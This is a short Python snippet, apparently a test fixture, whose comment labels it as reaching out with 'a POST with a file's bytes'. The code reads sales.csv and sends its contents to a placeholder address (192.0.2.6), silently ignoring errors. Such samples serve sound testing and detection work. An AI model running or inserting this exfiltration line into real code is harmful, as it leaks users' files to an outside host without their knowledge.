# reaches: a POST with a file's bytes
from urllib import request
try:
    request.build_opener().open(request.Request("http://192.0.2.6/", data=open("sales.csv", "rb").read()), timeout=1)
except OSError:
    pass
